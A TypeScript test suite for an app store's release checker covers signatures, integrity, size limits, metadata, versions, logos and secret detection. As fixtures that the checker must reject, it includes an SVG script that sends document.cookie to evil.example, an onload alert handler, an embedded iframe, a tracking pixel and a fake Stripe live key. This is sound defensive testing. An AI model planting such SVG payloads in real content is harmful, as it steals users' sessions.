import { randomBytes } from 'node:crypto';
import { open, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { generatePrivateKey } from 'viem/accounts';
import { afterAll, describe, expect, it } from 'vitest';
import { appDidFromPrivateKey } from './app-did.ts';
import { checkRelease, type ReleaseCheckInput } from './check-release.ts';
import { integrityOf } from './integrity.ts';
import { BUNDLE_MAX_BYTES, LOGO_MAX_BYTES, SCREENSHOT_MAX_BYTES } from './metadata.ts';
import { signRelease } from './release-signature.ts';
import { image, makeApp, packAndSign, removeTempDirs, tempDir, type FileTree } from './test-fixtures.ts';

afterAll(removeTempDirs);

const liveKey = `sk_${'live'}_Zk3qT9vLm2Xw8RpA7cYd4HfN6sGb1Ju5`;

async function upload(options: { files?: FileTree; metadata?: Record<string, unknown> } = {}) {
  const app = await makeApp(options);
  return { app, ...(await packAndSign(app)) };
}

const codesOf = async (input: ReleaseCheckInput) => {
  const check = await checkRelease(input);
  return check.ok ? [] : check.problems.map((p) => p.code);
};

/** A file of `size` bytes that takes no disk space and would take minutes to read. */
async function sparseFile(size: number): Promise<string> {
  const file = join(await tempDir(), 'huge.tgz');
  const handle = await open(file, 'w');
  await handle.truncate(size);
  await handle.close();
  return file;
}

describe('publish-time checks of a release', () => {
  it('accept a good bundle, answering its metadata, integrity and size', async () => {
    const { app, file, release } = await upload();
    const check = await checkRelease({
      file,
      release,
      otherAppNames: ['news-reader'],
      earlierVersions: ['0.9.0'],
    });
    expect(check).toEqual({
      ok: true,
      metadata: app.metadata,
      integrity: release.integrity,
      size: (await readFile(file)).length,
      // kiosk.json's main is a script, and there is no index.html: nothing to open.
      launchable: false,
    });
  });

  it('say whether the bundle holds the page a launch opens: main when it is a page, else index.html', async () => {
    const launchable = async (options: Parameters<typeof upload>[0]) => {
      const { file, release } = await upload(options);
      const check = await checkRelease({ file, release });
      return check.ok ? check.launchable : check.problems;
    };
    expect(await launchable({ files: { 'index.html': '<h1>Weather</h1>' } })).toBe(true);
    expect(
      await launchable({ metadata: { main: 'app/start.html' }, files: { 'app/start.html': '<p>' } }),
    ).toBe(true);
    // A page named as main but missing is not rescued by an index.html elsewhere.
    expect(await launchable({ metadata: { main: 'app/start.html' }, files: { 'index.html': '<p>' } })).toBe(
      false,
    );
    expect(await launchable({ files: { 'docs/index.html': '<p>' } })).toBe(false);
  });

  it('refuse an oversized bundle from its size alone, without reading it', async () => {
    const { release } = await upload();
    const file = await sparseFile(100 * 1024 ** 3);
    const started = performance.now();
    expect(await checkRelease({ file, release })).toEqual({
      ok: false,
      problems: [{ code: 'BUNDLE_TOO_LARGE', params: { size: '100 GB', max: '50 MB' } }],
    });
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('let the store setting lower the size limit but never raise it', async () => {
    const { file, release } = await upload();
    expect(await codesOf({ file, release, maxBytes: 10_000 })).toEqual(['BUNDLE_TOO_LARGE']);
    const justOver = await sparseFile(BUNDLE_MAX_BYTES + 1);
    expect(await codesOf({ file: justOver, release, maxBytes: 10 * BUNDLE_MAX_BYTES })).toEqual([
      'BUNDLE_TOO_LARGE',
    ]);
  });

  it('refuse a tarball with one byte changed after signing', async () => {
    const { file, release } = await upload();
    const bytes = await readFile(file);
    bytes[Math.floor(bytes.length / 2)]! ^= 0x01;
    await writeFile(file, bytes);
    const check = await checkRelease({ file, release });
    expect(check).toEqual({
      ok: false,
      problems: [
        { code: 'INTEGRITY_MISMATCH', params: { expected: release.integrity, actual: integrityOf(bytes) } },
      ],
    });
  });

  it('refuse a release signed by another key as WRONG_SIGNER, and open nothing of it', async () => {
    const app = await makeApp({ metadata: { title: '' } });
    const otherKey = generatePrivateKey();
    const { file, release } = await packAndSign(app, { signWith: otherKey });
    const check = await checkRelease({ file, release });
    expect(check).toMatchObject({
      ok: false,
      problems: [{ code: 'WRONG_SIGNER', params: { did: app.did } }],
    });
  });

  it('refuse a signature that is no signature', async () => {
    const { file, release } = await upload();
    expect(await codesOf({ file, release: { ...release, signature: `0x${'00'.repeat(65)}` } })).toEqual([
      'BAD_SIGNATURE',
    ]);
  });

  it('refuse kiosk.json fields that break the schema, each with its path', async () => {
    const { file, release } = await upload({
      metadata: {
        title: 'T'.repeat(61),
        screenshots: ['screenshots/today.png', 'notes.txt'],
        homepage: 'ftp://x',
      },
    });
    const check = await checkRelease({ file, release });
    expect(check).toEqual({
      ok: false,
      problems: [
        { code: 'METADATA_INVALID', params: { path: 'title', rule: 'store.bundle.rule.tooLong', max: 60 } },
        {
          code: 'METADATA_INVALID',
          params: { path: 'screenshots[1]', rule: 'store.bundle.rule.notImagePath' },
        },
        { code: 'METADATA_INVALID', params: { path: 'homepage', rule: 'store.bundle.rule.notHttpsUrl' } },
      ],
    });
  });

  it('refuse a bad app name with the seed message key', async () => {
    const { file, release } = await upload({ metadata: { name: 'weather2' } });
    const check = await checkRelease({ file, release });
    expect(check).toEqual({
      ok: false,
      problems: [
        { code: 'METADATA_INVALID', params: { path: 'name', rule: 'store.appName.invalidCharacters' } },
      ],
    });
  });

  it('refuse a release whose name, version or DID differ from kiosk.json', async () => {
    const app = await makeApp();
    const { file, release } = await packAndSign(app);
    const claimed = await signRelease(app.privateKey, { ...release, name: 'weather-deck', version: '1.0.1' });
    expect(await checkRelease({ file, release: claimed })).toEqual({
      ok: false,
      problems: [
        {
          code: 'RELEASE_MISMATCH',
          params: { field: 'name', release: 'weather-deck', metadata: 'weather-board' },
        },
        { code: 'RELEASE_MISMATCH', params: { field: 'version', release: '1.0.1', metadata: '1.0.0' } },
      ],
    });

    const otherKey = generatePrivateKey();
    const foreign = await signRelease(otherKey, { ...release, did: appDidFromPrivateKey(otherKey) });
    expect(await codesOf({ file, release: foreign })).toEqual(['RELEASE_MISMATCH']);
  });

  it('refuse a name too close to another app, when the store gives the names', async () => {
    const { file, release } = await upload();
    expect(await checkRelease({ file, release, otherAppNames: ['news', 'Weather_B0ard'] })).toEqual({
      ok: false,
      problems: [{ code: 'NAME_TOO_CLOSE', params: { existing: 'Weather_B0ard' } }],
    });
    expect(
      (await checkRelease({ file, release, otherAppNames: ['weather-station', 'board-games'] })).ok,
    ).toBe(true);
  });

  it('refuse a version that does not increase, when the store gives the earlier ones', async () => {
    const { file, release } = await upload();
    expect(await checkRelease({ file, release, earlierVersions: ['0.9.0', '1.0.0+build.7'] })).toEqual({
      ok: false,
      problems: [{ code: 'VERSION_NOT_INCREASING', params: { version: '1.0.0', latest: '1.0.0+build.7' } }],
    });
  });

  it('refuse a missing, oversized or mislabelled logo and missing or oversized screenshots', async () => {
    const missing = await upload({ metadata: { logo: 'brand/logo.svg' } });
    expect(await checkRelease(missing)).toEqual({
      ok: false,
      problems: [{ code: 'LOGO_MISSING', params: { path: 'brand/logo.svg' } }],
    });
    const big = await upload({ files: { 'logo.png': image.png(LOGO_MAX_BYTES + 1) } });
    expect(await checkRelease(big)).toEqual({
      ok: false,
      problems: [{ code: 'LOGO_TOO_LARGE', params: { path: 'logo.png', size: '512 KB', max: '512 KB' } }],
    });
    const fake = await upload({ files: { 'logo.png': Buffer.from('<html>not an image</html>') } });
    expect(await checkRelease(fake)).toEqual({
      ok: false,
      problems: [{ code: 'LOGO_NOT_IMAGE', params: { path: 'logo.png', type: 'PNG' } }],
    });
    const shots = await upload({
      metadata: { screenshots: ['screenshots/today.png', 'screenshots/gone.jpg'] },
      files: { 'screenshots/today.png': image.png(SCREENSHOT_MAX_BYTES + 1) },
    });
    expect(await codesOf(shots)).toEqual(['SCREENSHOT_TOO_LARGE', 'SCREENSHOT_MISSING']);
  });

  it('accept an SVG logo and a JPEG screenshot named .jpeg', async () => {
    const check = await checkRelease(
      await upload({
        metadata: { logo: 'logo.svg', screenshots: ['shot.jpeg'] },
        files: { 'logo.svg': image.svg(), 'shot.jpeg': image.jpg() },
      }),
    );
    expect(check.ok).toBe(true);
  });

  it('refuse SVG logos and screenshots that could run script or load something when shown', async () => {
    const svg = (inside: string, attributes = '') =>
      `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"${attributes}>${inside}</svg>`;
    const check = await checkRelease(
      await upload({
        metadata: { logo: 'logo.svg', screenshots: ['a.svg', 'b.svg', 'c.svg'] },
        files: {
          'logo.svg': svg('<script>fetch("https://evil.example/" + document.cookie)</script>'),
          'a.svg': svg('<rect width="10" height="10"/>', ' onload="alert(1)"'),
          'b.svg': svg(
            '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://x.example"/></foreignObject>',
          ),
          'c.svg': svg('<image href="https://tracker.example/pixel.png" width="1" height="1"/>'),
        },
      }),
    );
    expect(check).toEqual({
      ok: false,
      problems: [
        {
          code: 'LOGO_UNSAFE_SVG',
          params: { path: 'logo.svg', rule: 'store.svg.element', detail: 'script' },
        },
        {
          code: 'SCREENSHOT_UNSAFE_SVG',
          params: { path: 'a.svg', rule: 'store.svg.eventHandler', detail: 'onload' },
        },
        {
          code: 'SCREENSHOT_UNSAFE_SVG',
          params: { path: 'b.svg', rule: 'store.svg.element', detail: 'foreignObject' },
        },
        {
          code: 'SCREENSHOT_UNSAFE_SVG',
          params: { path: 'c.svg', rule: 'store.svg.element', detail: 'image' },
        },
      ],
    });
  });

  it('refuse a live API key in a bundled .js with its file and line, never the key', async () => {
    const { file, release } = await upload({
      files: { 'dist/pay.js': `import x from "./x.js";\n\nconst stripe = new Stripe("${liveKey}");\n` },
    });
    const check = await checkRelease({ file, release });
    expect(check).toEqual({
      ok: false,
      problems: [
        {
          code: 'SECRET_FOUND',
          params: { file: 'dist/pay.js', line: 3, column: 28, kind: 'kioskOrStripeKey' },
        },
      ],
    });
    expect(JSON.stringify(check)).not.toContain(liveKey.slice(8));
  });

  it('do not take a binary file of random bytes for a secret', async () => {
    const check = await checkRelease(
      await upload({ files: { 'assets/noise.bin': randomBytes(512 * 1024) } }),
    );
    expect(check.ok).toBe(true);
  });

  it('answer every problem after the signature together, in the fixed order', async () => {
    const { file, release } = await upload({
      metadata: { description: undefined, logo: 'missing.png' },
      files: { 'config.js': `export const key = "${liveKey}";` },
    });
    expect(
      await codesOf({ file, release, otherAppNames: ['weather-boards'], earlierVersions: ['2.0.0'] }),
    ).toEqual([
      'METADATA_INVALID',
      'NAME_TOO_CLOSE',
      'VERSION_NOT_INCREASING',
      'LOGO_MISSING',
      'SECRET_FOUND',
    ]);
  });
});
